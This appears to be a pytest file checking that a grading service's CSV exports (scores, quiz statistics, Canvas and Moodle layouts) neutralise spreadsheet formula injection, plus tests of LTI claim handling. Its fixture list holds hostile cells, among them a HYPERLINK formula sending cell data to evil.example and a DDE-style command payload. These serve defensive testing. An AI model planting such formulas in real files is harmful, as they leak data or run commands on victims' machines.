"""Formula injection: no CSV the service writes has a cell a spreadsheet would run.

Every export goes through ``web.services.csv_export.csv_text``; these tests put hostile names
and answers into the database and read each export back with the ``csv`` module.
"""
from __future__ import annotations

import csv
import io

import pytest

from pages_support import ada, db_session, env, grade_queued, prof  # noqa: F401
from web.services.csv_export import FORMULA_PREFIXES, csv_text, neutralise

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _dangerous(cells) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_PREFIXES)]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_string_that_starts_a_formula_is_quoted_as_text(value):
    assert neutralise(value) == "'" + value
    assert _cells(csv_text(["name"], [[value]])) == ["name", "'" + value]


def test_numbers_stay_numbers_and_harmless_text_is_untouched():
    assert neutralise(-0.25) == -0.25 and neutralise(3) == 3 and neutralise(None) == ""
    assert neutralise(True) == "true"
    assert neutralise("ada@example.org") == "ada@example.org"  # @ inside is fine
    assert neutralise("-3") == "'-3"  # a string from outside, even if it looks like a number
    assert _cells(csv_text(["d"], [[-0.25]])) == ["d", "-0.25"]


def _hostile_students(env):
    from web.models import User
    with db_session(env) as session:
        ada_row = session.query(User).filter_by(email="ada@example.org").one()
        ada_row.name = HOSTILE[0]
        bob_row = session.query(User).filter_by(email="bob@example.org").one()
        bob_row.name = HOSTILE[1]
        session.commit()


def test_every_score_export_neutralises_names(env, ada, prof):
    _hostile_students(env)
    ada.post("/tasks/sdpa", data={"code": "a = 1\n# SCORE=6\n"})
    grade_queued(env)
    exports = {layout: prof.get(f"/instructor/scores.csv?layout={layout}")
               for layout in ("plain", "canvas", "moodle")}
    from web.auth import issue_token
    from web.services.users import find_user
    with db_session(env) as session:
        token = issue_token(session, find_user(session, "prof@example.org"))
        session.commit()
    exports["api"] = prof.get("/api/v1/scores.csv", headers={"Authorization": f"Bearer {token}"})
    for layout, response in exports.items():
        assert response.status_code == 200, layout
        cells = _cells(response.get_data(as_text=True))
        if layout == "canvas":  # Canvas's Student column is "Last, First"
            from web.services.gradebook import sortable_name
            names = [neutralise(sortable_name(h)) for h in HOSTILE[:2]]
        else:
            names = ["'" + h for h in HOSTILE[:2]]
        assert all(name in cells for name in names), layout
        assert not _dangerous(cells), (layout, _dangerous(cells))
    canvas = list(csv.reader(io.StringIO(exports["canvas"].get_data(as_text=True))))
    ada_row = next(r for r in canvas if r[3] == "ada@example.org")
    assert "6" in ada_row  # the score is still a plain number


def test_question_statistics_export_neutralises_students_answers(env, ada, prof):
    numeric = "head-dimension"
    ada.post("/quiz/quiz/start")
    ada.post(f"/quiz/quiz/questions/{numeric}", data={f"q-{numeric}-number": "-3"})
    ada.post("/quiz/quiz/submit", data={"confirmed": "yes"})
    response = prof.get("/instructor/assignments/quiz/quiz-questions.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    row = next(r for r in rows if r["question_id"] == numeric)
    assert row["responses"] == "1" and row["facility"] == "0.0"
    assert "-3" in row["answers"]  # the typed answer is inside the cell, not at its start
    assert not _dangerous(_cells(response.get_data(as_text=True)))
    assert prof.get("/instructor/assignments/sdpa/quiz-questions.csv").status_code == 404


def test_the_canvas_layout_without_an_lms_says_only_what_it_knows(env, prof):
    """No LTI launch yet: Student is "Last, First" from the account's one name, ID and SIS
    User ID and Section are empty (never made up), SIS Login ID is the e-mail, columns are
    new assignments (no Canvas id), and Points Possible is each assignment's maximum even
    before anyone has a score."""
    from web.models import Course, User
    from web.services.courses import points_possible
    with db_session(env) as session:
        session.query(User).filter_by(email="ada@example.org").one().name = "Ada King Lovelace"
        session.query(User).filter_by(email="bob@example.org").one().name = "张伟"
        session.commit()
        assignments = list(session.query(Course).one().assignments)
        tops = [str(int(points_possible(a))) if points_possible(a).is_integer() else str(points_possible(a))
                for a in assignments]
        titles = [a.title for a in assignments]  # no "(sdpa)": Canvas would read it as an id
    header, points, *rows = csv.reader(io.StringIO(
        prof.get("/instructor/scores.csv?layout=canvas").get_data(as_text=True)))
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", *titles]
    with db_session(env) as session:  # two assignments of one title: told apart by their slugs
        first, second = session.query(Course).one().assignments[:2]
        second.title = first.title
        session.commit()
        slugs = (first.slug, second.slug)
    moodle = next(csv.reader(io.StringIO(prof.get("/instructor/scores.csv?layout=moodle").get_data(as_text=True))))
    assert [f"{titles[0]} – {slug}" for slug in slugs] == moodle[2:4]
    assert points == ["    Points Possible", "", "", "", "", *tops]
    assert sorted(r[:5] for r in rows) == [["Lovelace, Ada King", "", "", "ada@example.org", ""],
                                           ["张伟", "", "", "bob@example.org", ""]]


def test_lms_claims_are_kept_only_when_the_lms_filled_them():
    from web.lti.identity import record_link, record_person, section_names
    from web.lti.models import LtiResourceLink, LtiUser
    person = LtiUser(lms_user_id="11")
    record_person(person, {"https://purl.imsglobal.org/spec/lti/claim/custom": {
        "canvas_user_id": "$Canvas.user.id", "canvas_user_login_id": " ada.l "},
        "given_name": "Ada", "family_name": ""})
    assert (person.lms_user_id, person.login_id, person.given_name, person.family_name) == \
        ("11", "ada.l", "Ada", None)  # an unsubstituted variable keeps the known id
    assert section_names('["A", "B"]') == "A, B" and section_names("Lab 3") == "Lab 3"
    assert section_names("$com.instructure.User.sectionNames") is None and section_names("[]") is None
    link = LtiResourceLink()
    record_link(link, {"https://purl.imsglobal.org/spec/lti/claim/custom": {"canvas_assignment_id": "$Canvas.assignment.id"}})
    assert link.lms_assignment_id is None
